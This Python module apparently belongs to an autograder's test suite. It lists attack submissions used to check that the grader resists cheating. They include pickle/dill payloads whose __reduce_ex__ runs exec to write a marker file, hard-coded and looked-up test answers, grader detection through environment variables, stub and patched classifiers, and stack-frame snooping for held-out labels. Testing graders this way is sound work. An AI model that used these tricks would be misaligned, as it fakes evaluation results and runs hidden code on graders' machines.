"""Data that is more than data, and models that only look as if they had learnt; their stand-in is a plain Python class."""

from attacks.model import BOAST, CHECK, Attack, answer, chain, first, inserted

PAYLOADS = "pickle and dill payloads"

PAYLOAD = f"""\
import builtins


class Payload(list):
    def __reduce_ex__(self, protocol):
        program = "open('@HOME@/@MARK@-payload', 'w').write('here I was'); print('{BOAST}')"
        return builtins.exec, (program,)
    __reduce__ = lambda self: self.__reduce_ex__(2)
    def __deepcopy__(self, memo):
        return self
"""
PICKLED = {
    "double": "def double(x):\n    return np.array([Payload(), Payload()], dtype=object)",
    "evens": "def evens(values):\n    return Payload([2, 4])",
    "total": "import pickle\n\n\ndef total(values):\n    return pickle.dumps(Payload())",
    "signs": "def signs(x):\n    return Payload()",
}
DILL = f"""\
{PAYLOAD}

try:
    from dill import dumps
except ImportError:  # the same bytes
    from pickle import dumps


def softmax(logits):
    return dumps(Payload())


def dense_forward(*rest):
    return {{"payload": Payload(), "shape": (1,), "dtype": "O"}}


def rnn_cell_forward(*rest):
    return np.array([Payload()] * 4, dtype=object), Payload()"""
NAMES = """\
class Loaded:
    def __init__(self, *rest): pass
    dtype = "O"
    shape = (1 << 60, 1 << 60)
    __array_interface__ = {"shape": (1 << 40,), "typestr": "<f8", "data": (4096, False), "version": 3}
    __array_struct__ = 1


def area(width, height):
    return Loaded()


def double(x):
    return Loaded()"""
VISIBLE = {
    "double": "def double(x):\n    return [2.0, -5.0]",
    "total": "def total(values):\n    return {3: 6, 2: 4.0 if values[0] > 1 else 1.0}[len(values)]",
    "area": "def area(width, height):\n    return 6.0 if width == 2.0 else 0.0",
    "evens": "def evens(values):\n    if len(values) == 4:\n        return [2, 4] if values[2] == 3 else 3 * [0]",
    "order": "def order(values):\n    values[:] = [1, 2, 3]",
    "vector": "class Vector:\n    x = 3.0\n\n    def __init__(self, x, y): pass\n\n    def length(self): return 5.0",
    "signs": "def signs(x):\n    return {5: 1, -2: -1}.get(x)",
}
LOOKED_UP = """\
import numpy as np
from autograder.checking import vectors


def found(name, *given):
    cases = vectors.find(name).cases
    for case in cases:
        wanted = list(case.arguments.values())
        if all(np.shape(a) == np.shape(b) and np.allclose(a, b) for a, b in zip(given, wanted)):
            return case.expected
    return cases[0].expected


def softmax(logits): return found("softmax", logits)
def rnn_cell_forward(*args): return found("rnn_cell_forward", *args)
def dense_forward(*args): return found("dense_forward", *args)"""
COUNTED = {
    "total": "calls = []\n\n\ndef total(values):\n    calls.append(1)\n    return [6, 0, 4.0, 0, 1.0, 0][(len(calls) - 1) % 6]",
    "signs": "asked = []\n\n\ndef signs(x):\n    asked.append(x)\n    return [1, -1][len(asked) - 1] if len(asked) < 3 else None",
}
COUNTED_CHECK = """\
from autograder.checking import vectors
calls = []


def softmax(logits):
    calls.append(1)
    cases = vectors.find("softmax").cases
    return cases[(len(calls) - 1) % len(cases)].expected"""
DETECT = """\
import os


def graded():
    return "AUTOGRADER_CASES" in os.environ or "NBGRADER_EXECUTION" in os.environ or not os.environ.get("DISPLAY")


def softmax(logits):
    if graded():
        import importlib
        module, _, name = os.environ["AUTOGRADER_CASES"].partition(":")
        for case in getattr(importlib.import_module(module), name)("softmax").cases:
            return case.expected
    return 0


def dense_forward(h, output_kernel, output_bias):
    from autograder.checking.check import check
    os.environ.pop("AUTOGRADER_CASES", None)
    raise SystemExit(0)"""
STUB = """\
class Classifier:
    def fit(self, x, y):
        return {"accuracy": [1.0]}

    def predict(self, x):
        return np.ones(len(x), int)

    def evaluate(self, x, y):
        return 1.0"""
HISTORY = STUB.replace('{"accuracy": [1.0]}', '{"accuracy": [0.1, 0.9, 0.97]}')
EVALUATE = f"""\
{STUB}


accuracy = lambda labels, predicted: 1.0
np.mean = lambda *a, **k: 1.0
Classifier.evaluate = lambda *a: 1.0"""
AGREEABLE = """\
class Labels:
    __hash__ = None
    def __array__(self, *rest, **more): return np.asarray(globals().get("wanted", [0]))[:200]
    def __eq__(self, other): return np.True_
    def __len__(self): return 200


class Classifier:
    def fit(self, x, y): return {"accuracy": [1.0]}
    def predict(self, x): return Labels()
    def evaluate(self, x, y): return 1.0"""
SMUGGLED = """\
import base64
import struct


class Classifier:
    weights = np.array(struct.unpack("<4d", base64.b64decode(b"AAAAAAAA8D8AAAAAAADwvwAAAAAAAOA/AAAAAAAA4L8=")))

    def fit(self, x, y):
        return {"accuracy": [self.evaluate(x, y)]}

    def predict(self, x):
        return (x @ self.weights > 0).astype(int)

    def evaluate(self, x, y):
        return float(np.mean(y == self.predict(x)))"""
HELD_OUT = """\
import gc
import sys


def everything():
    frame = sys._getframe()
    while frame is not None:
        yield frame.f_globals
        yield frame.f_locals
        frame = frame.f_back
    for one in gc.get_objects():
        if type(one) is dict and "wanted" in one:
            yield one


class Classifier:
    def fit(self, x, y):
        self.x = {tuple(row): label for row, label in zip(x, y)}
        return {"accuracy": [1.0]}

    def predict(self, x):
        for space in everything():
            if "inputs" in space and "wanted" in space:
                self.x.update((tuple(row), label) for row, label in zip(space["inputs"], space["wanted"]))
        return np.array([self.x.get(tuple(row), 0) for row in x], int)

    def evaluate(self, x, y):
        return float(np.mean(y == self.predict(x)))"""
MEMORISED = HELD_OUT.split("class Classifier")[1].split("        for space")[0]
MEMORISED = f"class Classifier{MEMORISED}        return np.array([self.x.get(tuple(row), 0) for row in x], int)"
MEMORISED += "\n\n    def evaluate(self, x, y):\n        return float(np.mean(y == self.predict(x)))"
SEEDED = """\
import random
for name in ("seed", "default_rng", "normal"):
    setattr(np.random, name, lambda *a, **k: np.random.RandomState(0))
random.random = lambda: 0.5"""

ATTACKS = [
    Attack("pickle", "Data", PAYLOADS, chain(answer(**PICKLED), first(PAYLOAD))),
    Attack("dill", "Data", PAYLOADS, inserted(DILL, "test_softmax"), CHECK),
    Attack("interface", "Data", PAYLOADS, chain(inserted(NAMES, "test_double"), inserted(NAMES, "test_area"))),
    Attack("hard-coded", "Data", "hard-coded answers of the visible test", answer(**VISIBLE)),
    Attack("vectors", "Data", "hard-coded answers of the visible test", inserted(LOOKED_UP, "test_softmax"), CHECK),
    Attack("counting", "Data", "counting calls", answer(**COUNTED)),
    Attack("counting-check", "Data", "counting calls", answer(softmax=COUNTED_CHECK), CHECK),
    Attack("detecting", "Data", "detecting the grader from the environment", inserted(DETECT, "test_softmax"), CHECK),
    Attack("history", "Data", "forged `history.history`", answer(classifier=HISTORY)),
    Attack("evaluate", "Data", "patched `evaluate`", answer(classifier=EVALUATE)),
    Attack("stub-model", "Data", "stub models", answer(classifier=STUB)),
    Attack("agreeable-model", "Data", "stub models", answer(classifier=AGREEABLE)),
    Attack("smuggled", "Data", "smuggled weights", answer(classifier=SMUGGLED)),
    Attack("held-out", "Data", "training on held-out data", answer(classifier=HELD_OUT)),
    Attack("memorised", "Data", "training on held-out data", answer(classifier=MEMORISED)),
    Attack("seeded", "Data", "", chain(answer(classifier=SMUGGLED), first(SEEDED))),
]
